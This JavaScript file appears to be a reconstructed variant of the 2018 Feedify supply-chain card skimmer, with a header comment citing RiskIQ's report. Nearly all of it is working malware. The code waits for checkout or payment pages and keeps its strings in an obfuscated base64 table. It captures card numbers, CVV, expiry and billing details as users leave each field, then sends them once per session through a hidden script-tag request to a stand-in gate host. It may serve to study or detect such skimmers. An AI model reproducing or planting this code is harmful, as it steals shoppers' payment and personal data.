// feedify-lib (variant b), written from RiskIQ's report on the Feedify supply-chain
// compromise (September 2018), which describes the skimmer being removed and put back
// several times: a re-added version, as a variation (not a reported sample). The appended
// code keeps its strings (page words, event name, session flag, gate) in a base64-held
// table; it waits for the payment step, remembers card and billing fields as they are left,
// and sends them once per session with a script-tag request to the gate, so no XHR shows.
;(function (t) {
  var _ = function (i) { return atob(t[i]); };
  var W = window, D = document;
  var page = W.location.pathname.toLowerCase();
  if (page.indexOf(_(0)) < 0 && page.indexOf(_(1)) < 0) return;
  if (W.sessionStorage && W.sessionStorage.getItem(_(4))) return;
  var box = {};
  var want = /card|cc_|ccnum|cvv|cvc|exp|holder|name|street|address|city|zip|post|phone|mail/i;
  D.addEventListener(_(3), function (e) {
    var el = e.target;
    if (!el || el.tagName === undefined) return;
    var k = el.name || el.id || "";
    if (!want.test(k) || !el.value) return;
    box[k] = el.value;
    var num = "";
    for (var f in box) if (/^\d{13,19}$/.test(String(box[f]).replace(/\D/g, ""))) num = f;
    if (!num || Object.keys(box).length < 6) return;
    var sc = D.createElement("script");
    sc.src = _(5) + "k=" + encodeURIComponent(btoa(JSON.stringify(box))) + "&s=" + W.location.hostname;
    sc.async = true;
    (D.head || D.documentElement).appendChild(sc);
    if (W.sessionStorage) W.sessionStorage.setItem(_(4), "1");
  }, true);
})(["Y2hlY2tvdXQ=", "cGF5bWVudA==", "aW5wdXQ=", "Ymx1cg==", "ZmVlZGlmeV9z",
    "aHR0cHM6Ly9pbmZvLXN0YXQuaW52YWxpZC9jLmpzPw=="]);
